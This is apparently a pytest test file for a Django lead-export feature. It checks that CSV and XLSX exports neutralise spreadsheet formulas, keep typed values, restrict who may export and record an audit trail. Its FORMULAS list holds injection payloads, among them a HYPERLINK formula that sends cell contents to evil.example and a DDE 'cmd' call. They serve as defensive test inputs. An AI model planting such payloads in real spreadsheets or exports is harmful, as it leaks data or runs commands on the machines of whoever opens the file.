"""CSV and XLSX: inert whatever visitors wrote, typed, limited, permitted, kept in the trail."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import Group, User
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from chatqual.audit.models import AuditEntry
from chatqual.leads import exporting
from chatqual.leads.exporting import COLUMNS, DANGEROUS, csv_parts, inert, xlsx_parts
from chatqual.leads.keeping import rebuild_leads
from chatqual.leads.models import Lead
from chatqual.sites.models import Site
from tests.factories import make_agent
from tests.leads.conftest import talk

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
TITLES = [column.title for column in COLUMNS]


@pytest.fixture
def lea(site: Site) -> User:
    """The head of the team."""
    lea = make_agent(site, "lea")
    lea.groups.set([Group.objects.get(name="Lead")])
    return lea


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def all_ids() -> list[Any]:
    return list(Lead.objects.order_by("created").values_list("pk", flat=True))


def as_csv() -> list[dict[str, str]]:
    text = b"".join(csv_parts(all_ids())).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_xlsx() -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_parts(all_ids()))))
    first, *rows = book["Leads"].iter_rows()
    titles = [cell.value for cell in first]
    return [dict(zip(titles, row, strict=True)) for row in rows]


# --- inert ----------------------------------------------------------------------------------------
@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    made = inert(text)
    assert not made.startswith(DANGEROUS)
    assert made.removeprefix("'") == text.removeprefix("'") or made == text


@pytest.mark.django_db
@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_comes_back_as_text_from_a_real_reader(site: Site, payload: str) -> None:
    slots = {"name": payload, "company": payload, "email": payload, "budget": payload}
    talk(site, slots=slots, summary=payload, tier="warm", line=payload.replace("\0", ""))
    rebuild_leads()
    (row,) = as_csv()
    assert all(not row[title].startswith(DANGEROUS) for title in TITLES)
    assert row["Name"] == f"'{payload}"
    (cells,) = as_xlsx()
    for title in ("Name", "Company", "E-mail", "Budget", "Need"):
        assert cells[title].data_type == "s"
        assert str(cells[title].value).startswith("'")


@pytest.mark.django_db
def test_text_with_the_signs_of_csv_stays_in_its_cell(site: Site) -> None:
    awkward = 'a "b", c; =1+1\r\nnext\nline'
    talk(site, slots={"email": "ana@shop.example", "company": awkward})
    rebuild_leads()
    (row,) = as_csv()
    assert row["Company"] == awkward
    assert len(row) == len(COLUMNS)
    raw = b"".join(csv_parts(all_ids()))
    assert raw.startswith(b"\xef\xbb\xbf")
    # A reader that parts at semicolons still finds the quotes.
    assert b'"a ""b"", c; =1+1' in raw


@pytest.mark.django_db
def test_numbers_and_dates_are_typed(site: Site) -> None:
    Site.objects.filter(pk=site.pk).update(time_zone="Asia/Tokyo")
    conversation = talk(site, tier="hot", score=81, slots={"email": "ana@shop.example"})
    rebuild_leads()
    (cells,) = as_xlsx()
    assert (cells["Score"].data_type, cells["Score"].value) == ("n", 81)
    assert isinstance(cells["Created"].value, datetime)
    assert cells["Created"].is_date
    (row,) = as_csv()
    written = datetime.fromisoformat(row["Created"])
    assert written == conversation.created.replace(microsecond=0)
    assert row["Created"].endswith("+09:00")
    assert written.replace(tzinfo=None) == cells["Created"].value


@pytest.mark.django_db
def test_the_rows_are_those_of_the_list_in_parts(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "AT_ONCE", 2)
    for n in range(5):
        talk(site, slots={"email": f"ana{n}@shop.example"})
    rebuild_leads()
    assert [row["E-mail"] for row in as_csv()] == [f"ana{n}@shop.example" for n in range(5)]
    assert len(as_xlsx()) == 5
    # The head goes with the first part, and the end is a part of its own.
    assert len(list(csv_parts(all_ids()))) == 4


# --- who, how much, and what the trail says -------------------------------------------------------
def export(user: User, form: str = "csv", **filters: str) -> Any:
    address = reverse("admin:leads_export", args=[form])
    return signed_in(user).post(address, query_params=filters)


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_head_of_the_team_exports_what_the_filters_leave(
    site: Site, lea: User, form: str
) -> None:
    talk(site, slots={"email": "hot@shop.example"}, tier="hot")
    talk(site, slots={"email": "cold@shop.example"}, tier="cold")
    rebuild_leads()
    answer = export(lea, form, tier="hot")
    assert answer.status_code == 200
    assert answer.streaming
    assert "attachment" in answer["Content-Disposition"]
    content = b"".join(answer.streaming_content)
    if form == "csv":
        assert b"hot@" in content
        assert b"cold@" not in content
    else:
        assert openpyxl.load_workbook(io.BytesIO(content))["Leads"].max_row == 2
    entry = AuditEntry.objects.get(action="leads.exported")
    assert (entry.actor, entry.detail) == ("lea", {"format": form, "rows": 1})


@pytest.mark.django_db
def test_nobody_else_exports(site: Site, bo: User, lea: User) -> None:
    talk(site, slots={"email": "ana@shop.example"})
    rebuild_leads()
    assert export(bo).status_code == 403
    assert signed_in(lea).get(reverse("admin:leads_export", args=["csv"])).status_code == 405
    assert export(lea, "pdf").status_code == 403
    assert not AuditEntry.objects.filter(action="leads.exported").exists()
    page = signed_in(bo).get(reverse("admin:leads_lead_changelist")).content.decode()
    assert "Export" not in page


@pytest.mark.django_db
def test_another_sites_leads_are_in_no_file(lea: User, cy: User) -> None:
    theirs = Site.objects.get(public_key="other")
    talk(theirs, slots={"email": "theirs@other.example"})
    rebuild_leads()
    assert b"theirs@" not in b"".join(export(lea).streaming_content)


@pytest.mark.django_db
def test_too_many_rows_are_refused_in_words_and_never_cut(
    site: Site, lea: User, settings: Any
) -> None:
    settings.CHATQUAL_EXPORT_ROWS = 2
    for n in range(3):
        talk(site, slots={"email": f"ana{n}@shop.example"})
    rebuild_leads()
    address = reverse("admin:leads_export", args=["csv"])
    answer = signed_in(lea).post(address, follow=True)
    page = answer.content.decode()
    assert "These are 3 leads, and one file holds at most 2" in page
    assert not AuditEntry.objects.filter(action="leads.exported", detail__rows=3).exists()


@pytest.mark.django_db
def test_chosen_ones_are_exported_by_the_action(site: Site, lea: User) -> None:
    kept = talk(site, slots={"email": "kept@shop.example"})
    talk(site, slots={"email": "left@shop.example"})
    rebuild_leads()
    answer = signed_in(lea).post(
        reverse("admin:leads_lead_changelist"),
        {"action": "to_csv", "_selected_action": [str(kept.pk)]},
    )
    content = b"".join(answer.streaming_content)
    assert b"kept@" in content
    assert b"left@" not in content
